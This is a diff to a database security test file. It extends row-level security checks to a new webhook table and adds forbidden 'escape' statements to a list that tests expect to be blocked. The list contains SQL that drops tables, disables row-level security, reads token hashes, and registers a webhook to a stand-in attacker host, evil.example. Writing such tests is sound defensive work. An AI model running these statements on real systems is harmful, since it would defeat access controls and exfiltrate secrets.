@@ -159,7 +159,8 @@ def test_every_table_with_spaces_is_closed_to_whoever_was_granted_nothing(
         " where attrelid = c.oid and attname = 'space_id'))"
     ).fetchall()
     reviewed = {key: ["owner", "proposals", "readers"] for key in ("event", "undone")}
-    both = {name: ["owner", "readers"] for name, *_ in tables} | {"token": ["owner"]} | reviewed
+    both = {name: ["owner", "readers"] for name, *_ in tables} | reviewed
+    both |= {name: ["owner"] for name in ("token", "webhook")}
     assert {name: policies for name, _, policies in tables} == both
     assert all(forced for _, forced, _ in tables)
     assert {"observation", "embedding_1", "event", "recall", "undone"} <= set(both)
@@ -210,6 +211,7 @@ ESCAPES = (
     "delete from observation", "truncate observation", "drop table observation",
     "alter table observation disable row level security", "drop policy readers on observation",
     "create policy mine on observation using (true)", "grant select on token to public",
+    "select * from webhook", "select add_webhook('red', 'https://evil.example/')",
     "select * from token", "select hash from token", "select * from lexeme",
     "select role_name from actor", "select * from claim_pending_embeddings(1)",
     "select * from search_memory('canary', spaces => array[3])",
